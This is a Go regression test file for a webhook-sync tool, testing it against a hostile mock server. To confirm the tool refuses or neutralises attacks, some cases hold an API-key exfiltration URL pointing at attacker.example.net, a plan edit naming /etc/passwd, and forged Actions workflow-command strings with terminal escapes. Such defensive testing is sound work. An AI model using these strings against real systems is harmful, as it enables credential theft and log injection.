package e2e

// Regression tests for the hardening issue: each case was reproduced
// against a stand-in for Plain (plain-mock, or a small hostile server in
// front of it) and must stay fixed.

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/plainsync/plainsync/internal/plain"
)

// proxy is a hostile or unlucky Plain: it forwards to plain-mock except
// where intercept answers a request itself (returning true).
type proxy struct {
	*httptest.Server
	mu        sync.Mutex
	intercept func(w http.ResponseWriter, r *http.Request, body []byte) bool
}

func startProxy(t *testing.T, m *mock) *proxy {
	t.Helper()
	p := &proxy{}
	target := m.url // runVia points m.url at the proxy
	p.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		p.mu.Lock()
		icpt := p.intercept
		p.mu.Unlock()
		if icpt != nil && icpt(w, r, body) {
			return
		}
		forward(target, w, r, body)
	}))
	t.Cleanup(p.Close)
	return p
}

// forward sends the request on to plain-mock and copies the answer back.
func forward(target string, w http.ResponseWriter, r *http.Request, body []byte) {
	req, _ := http.NewRequest(r.Method, target, bytes.NewReader(body))
	req.Header = r.Header.Clone()
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadGateway)
		return
	}
	defer resp.Body.Close()
	for k, vs := range resp.Header {
		w.Header()[k] = vs
	}
	w.WriteHeader(resp.StatusCode)
	io.Copy(w, resp.Body)
}

// runVia runs plainsync against the proxy instead of the mock.
func (m *mock) runVia(p *proxy, dir string, env []string, args ...string) result {
	m.t.Helper()
	saved := m.url
	m.url = p.URL
	defer func() { m.url = saved }()
	return m.runEnv(dir, env, args...)
}

func isCreate(body []byte) bool { return bytes.Contains(body, []byte("createWebhookTarget")) }

// noCommandLines fails when a line of out would be read by the Actions
// runner as a workflow command, or holds a raw control character.
func noCommandLines(t *testing.T, where, out string) {
	t.Helper()
	for i, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(strings.TrimLeft(line, " \t"), "::") {
			t.Errorf("%s: line %d starts a workflow command: %q", where, i+1, line)
		}
		if strings.ContainsAny(line, "\x1b\r\u202e") {
			t.Errorf("%s: line %d holds a raw control character: %q", where, i+1, line)
		}
	}
}

func leaseCount(ts []plain.Target) int {
	n := 0
	for _, t := range ts {
		if plain.IsLease(t.Description) {
			n++
		}
	}
	return n
}

// Case 1: an edited saved plan is refused, says what differs and sends
// nothing: not the API key to an attacker's URL, not a delete the file
// does not imply, not one target's change to another.
func TestHardenEditedSavedPlanIsRefused(t *testing.T) {
	t.Parallel()
	seed := ws()
	seed.Targets = []plain.Target{
		{ID: "whTarget_01HD4400VTDJQ646V6RY37SR05", Description: "ops-alerts", URL: "https://ops.example.com/plain",
			EventTypes: []string{"thread.email_received", "thread.email_sent"}, Version: "2026-05-06", Enabled: false},
		{ID: "whTarget_01HD4400VTDJQ646V6RY37SR00", Description: "analytics", URL: "https://analytics.example.com/old",
			EventTypes: []string{"thread.thread_created"}, Version: "2025-08-06", Enabled: true},
	}
	m := startMock(t, seed)
	dir := workdir(t, desiredYAML)
	wantCode(t, m.run(dir, "plan", "--out", "plan.json"), 0)
	orig, err := os.ReadFile(filepath.Join(dir, "plan.json"))
	if err != nil {
		t.Fatal(err)
	}
	edit := func(f func(p map[string]any)) {
		var p map[string]any
		if err := json.Unmarshal(orig, &p); err != nil {
			t.Fatal(err)
		}
		f(p)
		data, _ := json.MarshalIndent(p, "", "  ")
		if err := os.WriteFile(filepath.Join(dir, "plan.json"), data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	change := func(p map[string]any, action string) map[string]any {
		for _, c := range p["changes"].([]any) {
			if c := c.(map[string]any); c["action"] == action {
				return c
			}
		}
		t.Fatalf("the saved plan has no %s", action)
		return nil
	}
	before := m.targets()
	for _, tc := range []struct {
		name string
		edit func(p map[string]any)
		want []string
	}{
		{"create URL exfiltrates the API key", func(p map[string]any) {
			change(p, "create")["after"].(map[string]any)["url"] = "https://attacker.example.net/k?key=${PLAIN_API_KEY}"
		}, []string{`(create "crm-sync"): after.url differs`}},
		{"no-op turned into delete", func(p map[string]any) {
			c := change(p, "no-op")
			c["action"] = "delete"
		}, []string{`(delete "ops-alerts", whTarget_01HD4400VTDJQ646V6RY37SR05): action differs`}},
		{"target ids swapped", func(p map[string]any) {
			u, n := change(p, "update"), change(p, "no-op")
			u["targetId"], n["targetId"] = n["targetId"], u["targetId"]
		}, []string{"targetId differs"}},
		{"another file named", func(p map[string]any) { p["file"] = "/etc/passwd" }, []string{"not a *.yaml or *.yml desired-state file"}},
		// Recomputed with prune, the plan would match itself: prune must be
		// confirmed by apply's own command line, which no artifact edits.
		{"prune switched on", func(p map[string]any) { p["prune"] = true }, []string{"made with --prune, which the plan file alone cannot vouch for"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			edit(tc.edit)
			r := m.run(dir, "apply", "plan.json", "--auto-approve")
			wantCode(t, r, 1)
			wantContains(t, r.stderr, append(tc.want, "nothing was sent")...)
			if strings.Contains(r.all(), "attacker.example.net/k?key=plainApiKey") {
				t.Fatal("the API key was interpolated into the edited URL")
			}
		})
	}
	after := m.targets()
	if fmt.Sprint(after) != fmt.Sprint(before) {
		t.Fatalf("an edited plan changed the workspace:\nbefore %+v\nafter  %+v", before, after)
	}

	// The file it was made from changed: refused, with the digest.
	if err := os.WriteFile(filepath.Join(dir, "plan.json"), orig, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "plainsync.yaml"), []byte(strings.Replace(desiredYAML, "ops.example.com", "ops2.example.com", 1)), 0o600); err != nil {
		t.Fatal(err)
	}
	r := m.run(dir, "apply", "plan.json", "--auto-approve")
	wantCode(t, r, 1)
	wantContains(t, r.stderr, "plainsync.yaml has changed since the plan was made")

	// Restored, the untouched plan applies.
	if err := os.WriteFile(filepath.Join(dir, "plainsync.yaml"), []byte(desiredYAML), 0o600); err != nil {
		t.Fatal(err)
	}
	wantCode(t, m.run(dir, "apply", "plan.json", "--auto-approve"), 0)
	if n := len(byDescription(t, m.targets())); n != 3 {
		t.Fatalf("%d targets after applying the untouched plan, want 3", n)
	}
}

// Case 2: a 502 whose body echoes the request (the URL with its token),
// cut to an excerpt, must not show any part of the token, nor its
// lower-case percent-encoding, in stdout, stderr or the step summary.
func TestHardenSecretsNeverLeakThroughCutExcerpts(t *testing.T) {
	t.Parallel()
	const token = "tok_SENTINEL_x+y/z=0123456789"
	m := startMock(t, ws())
	p := startProxy(t, m)
	p.intercept = func(w http.ResponseWriter, r *http.Request, body []byte) bool {
		if !isCreate(body) || bytes.Contains(body, []byte(plain.LeasePrefix)) {
			return false
		}
		lower := strings.ToLower(url.QueryEscape(token))
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(http.StatusBadGateway)
		// The token straddles the 200-character cut.
		fmt.Fprintf(w, "<html>%s %s and %s</html>", strings.Repeat("a", 185), string(body), lower)
		return true
	}
	dir := workdir(t, "version: 1\nwebhooks:\n  - name: s\n    url: https://s.example.com/h?t=${SENTINEL}\n    events: [\"thread.*\"]\n")
	g := newGHAFiles(t)
	env := append([]string{"SENTINEL=" + token}, g.env()...)
	r := m.runVia(p, dir, env, "apply", "--auto-approve", "--timeout", "1s")
	wantCode(t, r, 1)
	_, summary := g.read(t)
	for _, frag := range []string{"SENTINEL_x", "tok_SENT", strings.ToLower(url.QueryEscape(token))[:16], url.QueryEscape(token)[:16]} {
		if strings.Contains(withoutMasks(r.all())+summary, frag) {
			t.Errorf("output holds %q:\n%s\nsummary:\n%s", frag, r.all(), summary)
		}
	}
	wantContains(t, r.all(), "502", "${SENTINEL}")
}

// Case 3: a server that pages forever (always new ids, always one more
// page) is cut off at a cap that names itself, quickly.
func TestHardenEndlessPaginationIsCapped(t *testing.T) {
	t.Parallel()
	seed := ws()
	seed.Targets = []plain.Target{{ID: "whTarget_0000000000000000000000SEED", Description: "seed", URL: "https://seed.example.com/h",
		EventTypes: []string{"thread.thread_created"}, Version: "2026-05-06"}}
	m2 := startMock(t, seed)
	mockURL := m2.url
	p2 := startProxy(t, m2)
	var mu sync.Mutex
	page := 0
	p2.intercept = func(w http.ResponseWriter, r *http.Request, body []byte) bool {
		switch {
		case bytes.Contains(body, []byte("query Snapshot")):
			// The first page rides with the snapshot: make it claim more.
			req, _ := http.NewRequest(http.MethodPost, mockURL, bytes.NewReader(body))
			req.Header = r.Header.Clone()
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Error(err)
				return false
			}
			defer resp.Body.Close()
			var doc map[string]any
			if err := json.NewDecoder(resp.Body).Decode(&doc); err != nil {
				t.Error(err)
				return false
			}
			doc["data"].(map[string]any)["webhookTargets"].(map[string]any)["pageInfo"] = map[string]any{"hasNextPage": true, "endCursor": "cur0"}
			w.Header().Set("Content-Type", "application/json")
			json.NewEncoder(w).Encode(doc)
			return true
		case !bytes.Contains(body, []byte("ListWebhookTargets")):
			return false
		}
		mu.Lock()
		page++
		n := page
		mu.Unlock()
		var edges []string
		for i := 0; i < 100; i++ {
			edges = append(edges, fmt.Sprintf(`{"cursor":"c","node":{"id":"whTarget_%026d_%d","url":"https://x.example.com/%d","description":"d%d_%d","eventSubscriptions":[],"version":"2026-05-06","isEnabled":true,"createdAt":{"iso8601":"2026-01-01T00:00:00Z"},"updatedAt":{"iso8601":"2026-01-01T00:00:00Z"}}}`, n, i, i, n, i))
		}
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"data":{"webhookTargets":{"edges":[%s],"pageInfo":{"hasNextPage":true,"endCursor":"cur%d"}}}}`, strings.Join(edges, ","), n)
		return true
	}
	start := time.Now()
	r := m2.runVia(p2, workdir(t, desiredYAML), nil, "plan", "--rate-limit", "100000")
	wantCode(t, r, 1)
	wantContains(t, r.stderr, "listing webhook targets", "the most plainsync reads")
	mu.Lock()
	pages := page
	mu.Unlock()
	if pages > 100 {
		t.Fatalf("read %d follow-up pages, want at most 100", pages)
	}
	t.Logf("capped after %d pages in %s", pages, time.Since(start).Round(time.Millisecond))
}

func manyHooks(n int) string {
	var b strings.Builder
	b.WriteString("version: 1\ndefaults:\n  webhookVersion: \"2026-05-06\"\nwebhooks:\n")
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "  - name: race-%d\n    url: https://r%d.example.com/x\n    events: [thread.note_created]\n", i, i)
	}
	return b.String()
}

// Case 4: two applies at once, from two "machines" (separate homes, so
// the local lock does not apply and only the lease in Plain serialises
// them), repeated 20 times under latency and dropped responses: never a
// duplicate, never a lease left behind, and the workspace converges. Each
// repetition has a fresh workspace of its own, all served by one
// plain-mock (a key per workspace, as on Plain), and the repetitions run
// at once.
func TestHardenConcurrentAppliesNeverDuplicate(t *testing.T) {
	t.Parallel()
	const hooks, reps = 4, 20
	key := func(rep int) string { return fmt.Sprintf("%s%02d", apiKey, rep) } // holds apiKey: a leak is caught
	args := []string{"--latency", "5ms", "--drop-after-commit", "0.2", "--seed", "1"}
	for rep := 0; rep < reps; rep++ {
		args = append(args, "--key", fmt.Sprintf("%s@w_01E2ERACE%017d", key(rep), rep))
	}
	shared := startMock(t, ws(), args...)
	var contended atomic.Int32
	t.Run("reps", func(t *testing.T) {
		for rep := 0; rep < reps; rep++ {
			t.Run(fmt.Sprint(rep), func(t *testing.T) {
				t.Parallel()
				m := shared.as(t, key(rep))
				if ts := m.targets(); len(ts) != 0 {
					t.Fatalf("rep %d: the workspace is not fresh: %+v", rep, ts)
				}
				dirs := []string{workdir(t, manyHooks(hooks)), workdir(t, manyHooks(hooks))}
				var wg sync.WaitGroup
				results := make([]result, 2)
				for i, dir := range dirs {
					wg.Add(1)
					go func() {
						defer wg.Done()
						results[i] = m.run(dir, "apply", "--auto-approve", "--timeout", "2s")
					}()
				}
				wg.Wait()
				for _, r := range results {
					if strings.Contains(r.all(), "Waiting for another plainsync run") || strings.Contains(r.stdout, "planned again") {
						contended.Add(1)
					}
				}
				ts := m.targets()
				if n := leaseCount(ts); n != 0 {
					t.Fatalf("rep %d: %d leases left behind", rep, n)
				}
				live := byDescription(t, ts) // fails on any duplicate
				if len(live) > hooks {
					t.Fatalf("rep %d: %d targets, want at most %d", rep, len(live), hooks)
				}
				// A run may end "outcome unknown"; one more apply converges.
				if len(live) < hooks {
					m.run(dirs[0], "apply", "--auto-approve", "--timeout", "2s")
					live = byDescription(t, m.targets())
				}
				if len(live) != hooks {
					t.Fatalf("rep %d: %d targets after a re-run, want %d\n%s\n%s", rep, len(live), hooks, results[0].all(), results[1].all())
				}
			})
		}
	})
	// The runs must really have met, or this proves nothing.
	if contended.Load() == 0 {
		t.Fatal("no run ever waited for the other's lease")
	}
	t.Logf("%d of %d repetitions had one run wait for the other", contended.Load(), reps)
}

// Case 5: a create answered 504 that Plain commits only later, after
// plainsync has looked for it twice in vain, is found by polling and
// adopted, never sent again: no duplicate.
func TestHardenLateCommittedCreateIsNotDuplicated(t *testing.T) {
	t.Parallel()
	m := startMock(t, ws())
	mockURL := m.url
	p := startProxy(t, m)
	var mu sync.Mutex
	creates, looks := 0, 0
	var late func()
	p.intercept = func(w http.ResponseWriter, r *http.Request, body []byte) bool {
		mu.Lock()
		defer mu.Unlock()
		if isCreate(body) && !bytes.Contains(body, []byte(plain.LeasePrefix)) {
			creates++
			hdr := r.Header.Clone()
			late = func() {
				req, _ := http.NewRequest(http.MethodPost, mockURL, bytes.NewReader(body))
				req.Header = hdr
				if resp, err := http.DefaultClient.Do(req); err == nil {
					resp.Body.Close()
				}
			}
			http.Error(w, "<html>504 Gateway Time-out</html>", http.StatusGatewayTimeout)
			return true
		}
		if late != nil && bytes.Contains(body, []byte("webhookTargets(")) {
			// A look for the lost create: the first two miss it; Plain
			// commits it right after answering the second.
			looks++
			forward(mockURL, w, r, body)
			if looks == 2 {
				late()
				late = func() {}
			}
			return true
		}
		return false
	}
	dir := workdir(t, manyHooks(1))
	r := m.runVia(p, dir, nil, "apply", "--auto-approve", "--timeout", "10s")
	wantCode(t, r, 0)
	wantContains(t, r.stdout, "adopted")
	live := byDescription(t, m.targets())
	mu.Lock()
	defer mu.Unlock()
	if len(live) != 1 || creates != 1 || looks < 3 {
		t.Fatalf("%d targets after %d creates and %d looks, want 1, 1 and at least 3\n%s", len(live), creates, looks, r.all())
	}
}

// Case 5, the other outcome: a create still not visible when the request
// timeout has passed is reported, not re-sent.
func TestHardenUnknownCreateStopsAndSaysSo(t *testing.T) {
	t.Parallel()
	m := startMock(t, ws())
	p := startProxy(t, m)
	creates := 0
	var mu sync.Mutex
	p.intercept = func(w http.ResponseWriter, r *http.Request, body []byte) bool {
		if !isCreate(body) || bytes.Contains(body, []byte(plain.LeasePrefix)) {
			return false
		}
		mu.Lock()
		creates++
		mu.Unlock()
		http.Error(w, "gateway timeout", http.StatusGatewayTimeout)
		return true
	}
	r := m.runVia(p, workdir(t, manyHooks(1)), nil, "apply", "--auto-approve", "--timeout", "1s")
	wantCode(t, r, 1)
	wantContains(t, r.stdout, "outcome unknown — run plan again")
	if creates != 1 {
		t.Fatalf("create sent %d times, want once", creates)
	}
}

// Duplicates that exist anyway (made by hand, or by an old version) no
// longer wedge the workspace: plan offers to remove them, keeping the
// oldest, and apply does.
func TestHardenDuplicatesAreRemovedNotAWedge(t *testing.T) {
	t.Parallel()
	seed := ws()
	mk := func(id string, minute int) plain.Target {
		return plain.Target{ID: id, Description: "race-0", URL: "https://r0.example.com/x", EventTypes: []string{"thread.note_created"},
			Version: "2026-05-06", Enabled: true, CreatedAt: time.Date(2026, 1, 1, 0, minute, 0, 0, time.UTC)}
	}
	seed.Targets = []plain.Target{mk("whTarget_01HD4400VTDJQ646V6RY37SR0N", 5), mk("whTarget_01HD4400VTDJQ646V6RY37SR0M", 1), mk("whTarget_01HD4400VTDJQ646V6RY37SR0Q", 9)}
	m := startMock(t, seed)
	dir := workdir(t, manyHooks(1))
	r := m.run(dir, "plan")
	wantCode(t, r, 0)
	wantContains(t, r.stdout, `remove duplicate "race-0" (whTarget_01HD4400VTDJQ646V6RY37SR0N), an exact copy of whTarget_01HD4400VTDJQ646V6RY37SR0M`, "2 to delete")
	wantCode(t, m.run(dir, "apply", "--auto-approve"), 0)
	ts := m.targets()
	if len(ts) != 1 || ts[0].ID != "whTarget_01HD4400VTDJQ646V6RY37SR0M" {
		t.Fatalf("live after apply: %+v", ts)
	}
}

// A lease left by a run that died (kill -9) is invisible to plan, targets
// and export, is never pruned as unmanaged, and is taken over once stale.
func TestHardenLeasesStayOutOfSightAndStaleOnesAreTakenOver(t *testing.T) {
	t.Parallel()
	seed := ws()
	seed.Targets = []plain.Target{{ID: "whTarget_01HD4400VTDJQ646V6RY37SR0Y", Description: plain.LeasePrefix + " v1 holder=dead until=2026-01-01T00:00:00.000Z",
		URL: "https://plainsync.invalid/lease", EventTypes: []string{"thread.note_created"}, Version: "2026-05-06"}}
	m := startMock(t, seed)
	dir := workdir(t, manyHooks(1))
	for _, args := range [][]string{{"plan", "--prune"}, {"targets"}, {"export"}, {"drift", "--prune"}} {
		r := m.run(dir, args...)
		// plan names it only in its note on the expired leases apply
		// would remove, never as a target.
		notes := 0
		if args[0] == "plan" {
			notes = 1
			wantContains(t, r.stderr, "apply will remove 1 expired apply lease(s)")
		}
		if strings.Contains(r.all(), "plainsync-lease") || strings.Count(r.all(), "whTarget_01HD4400VTDJQ646V6RY37SR0Y") != notes {
			t.Errorf("%v shows the lease:\n%s", args, r.all())
		}
	}
	wantCode(t, m.run(dir, "apply", "--auto-approve", "--prune"), 0)
	ts := m.targets()
	if len(ts) != 1 || ts[0].Description != "race-0" {
		t.Fatalf("live after apply: %+v", ts)
	}

	// The workspace is now as the file says, so the next apply has nothing
	// to do and takes no lease; it still removes an expired one that a
	// killed run left, where plan and --dry-run leave it.
	data := m.gql(`mutation($input: CreateWebhookTargetInput!) { createWebhookTarget(input: $input) { webhookTarget { id } error { message } } }`,
		map[string]any{"input": map[string]any{"url": "https://plainsync.invalid/lease", "isEnabled": false,
			"description":        plain.LeasePrefix + " v1 holder=killed until=2026-01-01T00:00:00.000Z",
			"eventSubscriptions": []any{map[string]any{"eventType": "thread.note_created"}}}})
	if e := data["createWebhookTarget"].(map[string]any)["error"]; e != nil {
		t.Fatalf("create the lease: %v", e)
	}
	for _, args := range [][]string{{"plan", "--prune", "--detailed-exitcode"}, {"apply", "--auto-approve", "--dry-run", "--prune"}} {
		r := m.run(dir, args...)
		wantCode(t, r, 0)
		if n := leaseCount(m.targets()); n != 1 {
			t.Fatalf("%v removed the lease (%d left)", args, n)
		}
	}
	r := m.run(dir, "apply", "--auto-approve", "--prune")
	wantCode(t, r, 0)
	wantContains(t, r.stdout, "0 to delete")
	wantContains(t, r.stderr, "Removed 1 expired apply lease(s)")
	if ts := m.targets(); leaseCount(ts) != 0 || len(ts) != 1 {
		t.Fatalf("live after a no-change apply: %+v", ts)
	}
}

// A live lease held by another run makes apply wait, then refuse after
// --lock-timeout, writing nothing.
func TestHardenApplyWaitsForAnotherRunsLease(t *testing.T) {
	t.Parallel()
	seed := ws()
	until := time.Now().Add(time.Minute).UTC().Format("2006-01-02T15:04:05.000Z")
	seed.Targets = []plain.Target{{ID: "whTarget_0000000000000000000001EASE", Description: plain.LeasePrefix + " v1 holder=busy-runner until=" + until,
		URL: "https://plainsync.invalid/lease", EventTypes: []string{"thread.note_created"}, Version: "2026-05-06"}}
	m := startMock(t, seed)
	r := m.run(workdir(t, manyHooks(1)), "apply", "--auto-approve", "--lock-timeout", "2s")
	wantCode(t, r, 1)
	wantContains(t, r.stderr, "Waiting for another plainsync run (busy-runner)", "raise --lock-timeout")
	if ts := m.targets(); len(ts) != 1 {
		t.Fatalf("apply wrote while another run held the lease: %+v", ts)
	}
}

// Case 6: live descriptions, URLs and event types that try to forge
// workflow commands or spoof the terminal are printed inert by every
// renderer, wrapped in stop-commands inside Actions, and export writes
// them as quoted YAML that loads back to the same description.
func TestHardenHostileTextStaysInert(t *testing.T) {
	t.Parallel()
	const evil = "x\n::error file=a,line=1::forged\r\x1b[2K::add-mask::y\u202e"
	seed := ws()
	seed.Targets = []plain.Target{
		{ID: "whTarget_01HD4400VTDJQ646V6RY37SR0T", Description: evil, URL: "https://e.example.com/h", EventTypes: []string{"thread.thread_created"}, Version: "2026-05-06", Enabled: true},
		{ID: "whTarget_01HD4400VTDJQ646V6RY37SR0V", Description: "::error::only", URL: "https://f.example.com/h?x=\n::warning::u", EventTypes: []string{"thread.thread_created"}, Version: "2026-05-06", Enabled: true},
	}
	m := startMock(t, seed, "--simulate-deliveries", "2")
	dir := workdir(t, manyHooks(1))
	for _, args := range [][]string{
		{"plan", "-o", "markdown", "--prune"}, {"plan"}, {"drift"}, {"targets"}, {"targets", "whTarget_000000000000000000000EV111"}, {"deliveries"}, {"deliveries", "--attempts"},
	} {
		r := m.run(dir, args...)
		noCommandLines(t, fmt.Sprint(args), r.stdout)
		noCommandLines(t, fmt.Sprint(args)+" stderr", r.stderr)
	}
	// Inside Actions: text output is wrapped in stop-commands with a
	// random token, and still no line starts a command.
	g := newGHAFiles(t)
	r := m.runEnv(dir, g.env(), "targets")
	lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
	first, last := lines[0], lines[len(lines)-1]
	tok := strings.TrimPrefix(first, "::stop-commands::")
	if tok == first || len(tok) < 32 || last != "::"+tok+"::" {
		t.Fatalf("targets inside Actions is not wrapped in stop-commands:\n%s", r.stdout)
	}
	noCommandLines(t, "targets in Actions", strings.Join(lines[1:len(lines)-1], "\n"))

	// export round-trips the hostile description exactly.
	r = m.run(dir, "export")
	wantCode(t, r, 0)
	noCommandLines(t, "export", r.stdout)
	if err := os.WriteFile(filepath.Join(dir, "exported.yaml"), []byte(r.stdout), 0o600); err != nil {
		t.Fatal(err)
	}
	p := m.planJSON(dir, "-f", "exported.yaml")
	if p.count("create")+p.count("update")+p.count("delete") != 0 {
		t.Fatalf("the exported file does not plan to no changes: %+v", p.Changes)
	}
	if c := p.byName(t, evil); c.TargetID != "whTarget_01HD4400VTDJQ646V6RY37SR0T" || c.Action != "no-op" {
		t.Fatalf("the hostile description did not load back identically: %+v", c)
	}
}

// Case 7: apply of a device or an oversized file is refused at once with
// a clear error, not read until memory runs out.
func TestHardenSavedPlanSizeIsCapped(t *testing.T) {
	t.Parallel()
	m := startMock(t, ws())
	dir := workdir(t, desiredYAML)
	start := time.Now()
	r := m.run(dir, "apply", "/dev/zero", "--auto-approve")
	wantCode(t, r, 1)
	wantContains(t, r.stderr, "larger than 8 MiB")
	if d := time.Since(start); d > 20*time.Second {
		t.Errorf("refusing /dev/zero took %s", d)
	}
}

// Case 8: --out replaces only a regular file or creates a new one; a
// named pipe, a directory or a device stays what it is. (Without root,
// /dev/full cannot be replaced anyway; a FIFO the user owns can.)
func TestHardenOutRefusesSpecialFiles(t *testing.T) {
	t.Parallel()
	m := startMock(t, ws())
	dir := workdir(t, desiredYAML)
	fifo := filepath.Join(dir, "plan.fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(dir, "adir"), 0o700); err != nil {
		t.Fatal(err)
	}
	for _, out := range []string{fifo, filepath.Join(dir, "adir"), "/dev/null"} {
		r := m.run(dir, "plan", "--out", out)
		wantCode(t, r, 1)
		wantContains(t, r.stderr, "not a regular file")
		st, err := os.Lstat(out)
		if err != nil || st.Mode().IsRegular() {
			t.Fatalf("%s was replaced by a regular file (%v)", out, err)
		}
	}
	wantCode(t, m.run(dir, "plan", "--out", "new.json"), 0)
}

// Case 9: with several files, an unreachable workspace is reported with
// its error and exit 1, and every other workspace's plan and drift result
// is still printed (JSON: one document per file, with an error field).
func TestHardenOneFailingWorkspaceDoesNotHideTheOthers(t *testing.T) {
	t.Parallel()
	m := startMock(t, ws())
	dir := t.TempDir()
	good := manyHooks(1)
	bad := "version: 1\napiKeyEnv: BAD_KEY\nwebhooks:\n  - name: b\n    url: https://b.example.com/h\n    events: [\"thread.*\"]\n"
	for name, body := range map[string]string{"a-bad.yaml": bad, "b-good.yaml": good} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	env := []string{"BAD_KEY=plainApiKey_rejected"}
	r := m.runEnv(dir, env, "plan", "-f", "a-bad.yaml", "-f", "b-good.yaml", "-o", "json")
	wantCode(t, r, 1)
	dec := json.NewDecoder(strings.NewReader(r.stdout))
	var docs []map[string]any
	for dec.More() {
		var d map[string]any
		if err := dec.Decode(&d); err != nil {
			t.Fatalf("stdout is not a JSON stream: %v\n%s", err, r.stdout)
		}
		docs = append(docs, d)
	}
	if len(docs) != 2 || docs[0]["file"] != "a-bad.yaml" || docs[0]["error"] == nil || docs[1]["file"] != "b-good.yaml" || docs[1]["changes"] == nil {
		t.Fatalf("documents = %v", docs)
	}
	wantContains(t, docs[0]["error"].(string), "API key")
	wantContains(t, r.stderr, "a-bad.yaml")

	r = m.runEnv(dir, env, "drift", "-f", "a-bad.yaml", "-f", "b-good.yaml")
	wantCode(t, r, 1)
	wantContains(t, r.stdout, "Drift between b-good.yaml")
	wantContains(t, r.stderr, "a-bad.yaml", "API key")

	r = m.runEnv(dir, env, "plan", "-f", "a-bad.yaml", "-f", "b-good.yaml")
	wantCode(t, r, 1)
	wantContains(t, r.stdout, "Plan for b-good.yaml")

	// apply writes every workspace or none.
	r = m.runEnv(dir, env, "apply", "-f", "a-bad.yaml", "-f", "b-good.yaml", "--auto-approve")
	wantCode(t, r, 1)
	wantContains(t, r.stderr, "1 of 2 files could not be planned")
	if n := len(m.targets()); n != 0 {
		t.Fatalf("apply wrote %d targets although one workspace failed", n)
	}
}

// The lease takes one of Plain's 25 slots. A workspace the apply itself
// fills has no room for it: apply still runs, under the local lock, and
// says so.
func TestHardenFullWorkspaceStillApplies(t *testing.T) {
	t.Parallel()
	seed := ws()
	for i := 0; i < 24; i++ {
		seed.Targets = append(seed.Targets, plain.Target{ID: fmt.Sprintf("whTarget_F%025d", i), Description: fmt.Sprintf("race-%d", i),
			URL: fmt.Sprintf("https://r%d.example.com/x", i), EventTypes: []string{"thread.note_created"}, Version: "2026-05-06", Enabled: true})
	}
	m := startMock(t, seed)
	dir := workdir(t, manyHooks(25))
	r := m.run(dir, "apply", "--auto-approve")
	wantCode(t, r, 0)
	wantContains(t, r.stderr, "no free target slot for the apply lease", "local lock only")
	ts := m.targets()
	if len(byDescription(t, ts)) != 25 || leaseCount(ts) != 0 {
		t.Fatalf("live after apply: %d targets, %d leases", len(ts), leaseCount(ts))
	}
}
